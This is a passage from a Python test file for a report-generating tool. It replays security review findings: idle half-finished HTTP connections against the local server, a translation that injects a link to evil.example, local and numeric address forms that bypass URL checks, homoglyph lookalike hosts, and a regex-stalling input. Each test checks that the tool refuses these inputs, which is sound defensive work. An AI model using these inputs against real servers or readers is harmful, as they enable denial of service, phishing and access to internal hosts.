        fresh.sendall(b"GET /__reload.js HTTP/1.0\r\nHost: localhost\r\n\r\n")
        fresh.settimeout(5)
        assert fresh.recv(100).startswith(b"HTTP/1.0 200")
        fresh.close()
    finally:
        for connection in idle:
            connection.close()
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_two_hundred_idle_connections_do_not_stop_serve_making_a_word_brief(
    tmp_path: Path,
) -> None:
    import socket
    import time
    import urllib.parse
    import urllib.request

    from .serving import make_project, serving

    make_project(tmp_path)
    with serving(tmp_path) as url:
        address = urllib.parse.urlsplit(url)
        idle = []
        try:
            for _ in range(200):  # the review's slow.py: headers never finished
                connection = socket.create_connection((address.hostname, address.port))
                connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                idle.append(connection)
            time.sleep(11)  # past the idle timeout: the server closed them
            with urllib.request.urlopen(url + "testland.docx", timeout=120) as word:
                assert word.status == 200 and word.read(2) == b"PK"  # a Word file, made now
        finally:
            for connection in idle:
                connection.close()


# Review 6, Low: a team catalog's translation adding markup ---------------------------------------


def test_a_catalog_translation_cannot_add_links_or_images_to_a_brief(tmp_path: Path) -> None:
    project = _french_project(tmp_path)
    (project / "translations").mkdir()
    (project / "translations" / "fr.po").write_text(
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: fr\\n"\n\n'
        'msgid "Key findings"\n'
        'msgstr "Principaux <a href=\\"https://evil.example/\\">constats</a>"\n',
        encoding="utf-8",
    )
    config = ["--config", str(project / "aftercare-report.toml")]
    result = CliRunner().invoke(cli, [*config, "build", "--format", "html"])
    assert result.exit_code == 1, result.output
    assert "fr.po:6" in result.stderr and "adds markup" in result.stderr
    assert "<a href=" in result.stderr
    assert not (project / "out").exists() or not list((project / "out").glob("*.html"))


def test_a_translation_may_keep_its_messages_own_tags() -> None:
    from aftercare_report.i18n import added_markup

    own = "<strong>%(value)s</strong> of 100"
    assert added_markup(own, "<strong>%(value)s</strong> sur 100") is None
    assert added_markup(own, "<strong>%(value)s</strong> sur 100 <img src=x>") == "<img src=x>"
    assert added_markup("a", "b <a href='x'") == "<a href='x'"  # an unclosed tag counts too
    assert added_markup(("one", "%(n)s"), ("un", "%(n)s <b>x</b>")) == "<b>"


# Review 6, Low: addresses a browser reads as numbers, local addresses, ports ---------------------

NUMERIC_HOSTS = [
    "https://0x7f.1/",  # all four are 127.0.0.1 in a browser
    "https://2130706433/",
    "https://0177.0.0.1/",
    "https://127.1/",
    "https://www.state.gov.1/",  # ends in a number: read as an address, which it is not
    "https://192.168.0.1/admin",  # a private network
    "https://[::1]/",
    "https://127.0.0.1/",
    "https://www.state.gov:99999/",  # ports a browser cannot open
    "https://www.state.gov:0x50/",
    "https://www.state.gov:6000/",  # a port browsers refuse (X11; review 12a, Info)
    # Review 7, Lows: the reader's own machine under other names and IPv6 forms of 127.0.0.1,
    # and a user name where the URL has no '//'
    "https://localhost/",
    "https://reports.localhost/",
    "https://[64:ff9b::7f00:1]/",
    "https://[2002:7f00:1::]/",
    "https://[::ffff:127.0.0.1]/",
    "https:www.state.gov@evil.example/",
]


@pytest.mark.parametrize("url", NUMERIC_HOSTS)
def test_an_address_a_reader_cannot_read_or_a_local_one_is_refused(url: str) -> None:
    from aftercare_report import weburl

    assert weburl.problem(url)


def test_public_addresses_and_ordinary_ports_pass() -> None:
    from aftercare_report import weburl

    for url in (
        "https://8.8.8.8/x",
        "https://[2001:4860:4860::8888]/",
        "https://www.state.gov:443/reports/",
        "https://2009-2017.state.gov/j/tip/c73433.htm",  # a name that starts with digits
    ):
        assert weburl.problem(url) is None, url


# Review 6, Low: a sentence too long with what is filled into it ----------------------------------


def test_a_sentence_too_long_with_its_values_says_what_made_it_long() -> None:
    # 1,900 profiles made a comparison sentence pass the limit, and the message sent the user to
    # 'translations check en', which could not help: a catalog's widths are bounded when read.
    from aftercare_report.errors import InputError
    from aftercare_report.i18n import resolve

    english = resolve("en", {}, None)
    with pytest.raises(InputError) as caught:
        english.gettext("Compared: %(countries)s.", countries="Testland, " * 1_200)
    (finding,) = caught.value.findings
    assert "names too many countries" in finding.message
    assert "translations check" not in finding.message


# Review 7 M1: characters in a host that read as punctuation --------------------------------------

LOOKALIKE_HOSTS = [
    f"https://www.jica.go.jp{char}english.evil.example/news/190301_01.html"
    for char in (
        "\u2215",  # DIVISION SLASH
        "\u2044",  # FRACTION SLASH
        "\u29f8",  # BIG SOLIDUS
        "\u2571",  # BOX DRAWINGS LIGHT DIAGONAL
        "\u30ce",  # KATAKANA LETTER NO, a letter that reads as a slash
        "\u3033",  # VERTICAL KANA REPEAT MARK UPPER HALF
        "\u1735",  # PHILIPPINE SINGLE PUNCTUATION
        "\u0338",  # COMBINING LONG SOLIDUS OVERLAY
        "\ua789",  # MODIFIER LETTER COLON
        "\u2236",  # RATIO
        "\u00b7",  # MIDDLE DOT
    )
]


@pytest.mark.parametrize("url", LOOKALIKE_HOSTS)
def test_a_host_with_a_character_that_reads_as_punctuation_is_refused(url: str) -> None:
    from aftercare_report import weburl

    assert weburl.problem(url)


def test_hosts_wholly_in_one_script_pass() -> None:
    from aftercare_report import weburl

    for url in ("https://m\u00fcnchen.de/", "https://\u4f8b\u3048.jp/", "https://www.ohchr.org/"):
        assert weburl.problem(url) is None, url


def test_validate_refuses_the_reviews_division_slash(tmp_path: Path) -> None:
    profile = tmp_path / "thailand.yaml"
    text = THAILAND.read_text(encoding="utf-8")
    url = "https://www.jica.go.jp/english/mobile/news/field/2018/190301_01.html"
    assert url in text
    profile.write_text(
        text.replace(url, "https://www.jica.go.jp\u2215english.evil.example/news/190301_01.html"),
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["validate", "--strict", str(profile)])
    assert result.exit_code == 1 and "DIVISION SLASH" in result.output, result.output


# Review 8 ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\u0294", "\ua78f", "\u01c0", "\u01c3", "\u0261"])
def test_a_latin_letter_that_reads_as_punctuation_or_another_letter_is_refused(char: str) -> None:
    # M2: glottal stop as '?', sinological dot as '·', clicks as '|' and '!', script g as 'g'.
    from aftercare_report import weburl

    assert weburl.problem(f"https://www.jica.go.jp{char}english.evil.example/")


def test_latin_letters_of_european_names_pass() -> None:
    from aftercare_report import weburl

    for url in ("https://stra\u00dfe.de/", "https://\u00e6ble.dk/", "https://ka\u0142u\u017ca.pl/"):
        assert weburl.problem(url) is None, url


def test_a_project_file_line_of_spaces_after_a_bracket_is_read_at_once(tmp_path: Path) -> None:
    # M1: '[' and 4,000 spaces took 130 s in the pattern that finds each key's line.
    from aftercare_report.project_file import _key_lines

    text = '[brand]\norganisation = """\n[' + " " * 200_000 + 'x\n"""\n[limits]\n'
    start = time.process_time()
    lines = _key_lines(text)
    assert time.process_time() - start < 1.0
    assert lines == {"brand": 1, "organisation": 2, "limits": 5}


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_source_on_an_international_host_builds_in_markdown(tmp_path: Path) -> None:
    # Review 8 L1: the host was percent-encoded, and the Markdown check refused its own link.
    profile = tmp_path / "thailand.yaml"
    url = "https://www.jica.go.jp/english/mobile/news/field/2018/190301_01.html"
    text = THAILAND.read_text(encoding="utf-8")
    profile.write_text(text.replace(url, "https://m\u00fcnchen.de/bericht"), encoding="utf-8")
    args = ["build", str(profile), "--format", "md", "--out", str(tmp_path / "out")]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    page = (tmp_path / "out" / "thailand.md").read_text(encoding="utf-8")
    assert "(<https://xn--mnchen-3ya.de/bericht>)" in page


# Review 9 M1: look-alike names a list cannot enumerate -------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://www.j\u0131ca.go.jp/english/",  # a dotless i
        "https://www.n\u1ea1tion.com/",  # a with a dot below
        "https://\u0456\u043e\u043c.int/",  # Cyrillic, one letter off the look-alike list
        "https://\u03ba\u03c5\u03bd\u03bf.com/",  # Greek
        "https://xn--jca-jua.go.jp/",  # the ASCII form of the dotless-i name
    ],
)
def test_every_host_outside_plain_ascii_is_flagged_for_review(url: str) -> None:
    from aftercare_report import lookalikes

    found = lookalikes.problem(url, url=True)
    assert found is not None and found[0] == "look-alike", url


def test_validate_strict_refuses_the_reviews_dotless_i(tmp_path: Path) -> None:
    profile = tmp_path / "thailand.yaml"
    url = "https://www.jica.go.jp/english/mobile/news/field/2018/190301_01.html"
    text = THAILAND.read_text(encoding="utf-8")
    profile.write_text(text.replace(url, url.replace("jica", "j\u0131ca")), encoding="utf-8")
    result = CliRunner().invoke(cli, ["validate", "--strict", str(profile)])
    assert result.exit_code == 1 and "not in plain ASCII letters" in result.output, result.output
